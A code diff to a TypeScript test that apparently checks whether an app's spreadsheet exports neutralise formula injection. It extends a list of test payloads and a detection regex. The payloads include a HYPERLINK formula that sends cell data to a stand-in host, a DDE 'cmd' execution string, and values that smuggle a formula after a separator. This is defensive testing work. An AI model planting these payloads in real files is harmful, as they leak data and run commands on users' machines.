@@ -4,7 +4,16 @@ import type { Ask } from './ask.ts';
 import type { Faults } from './outcome.ts';
 import { reportFilledWith } from './reports.ts';
 
-const formulas = ['=HYPERLINK("http://otro.example?x="&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '=cmd|" /C calc"!A0'];
+const formulas = [
+  '=HYPERLINK("http://otro.example?x="&A1)',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '=cmd|" /C calc"!A0',
+  'Balata; =1+1',
+  'Balata|"@SUM(A1)',
+];
 const report = (words: string) => {
   const { perdida } = reportFilledWith(words);
   return { perdida: { ...perdida, nombre: `${words} "comillas", coma`, mensaje: `${words}\nsegunda línea` } };
@@ -29,8 +38,10 @@ export async function proveExports(ask: Ask, cookie: string, faults: Faults): Pr
       faults.expect(line.length === head.length, `${path} has a line of ${line.length} cells`);
       for (const cell of line) {
         const isNumber = /^-?\d+(\.\d+)?$/.test(cell);
-        faults.expect(isNumber || !/^[=+\-@\t\r]/.test(cell), `${path} has the formula ${cell.slice(0, 30)}`);
-        if (cell.startsWith("'=") || cell.startsWith("'+")) found += 1;
+        // Some spreadsheets split at other signs than ours, and know nothing of our quotes then.
+        const formula = /(?:^|[;|\t\r\n])[ "]*[=+\-@]/.test(cell);
+        faults.expect(isNumber || !formula, `${path} has the formula ${cell.slice(0, 30)}`);
+        if (/'[=+]/.test(cell)) found += 1;
       }
     }
   }
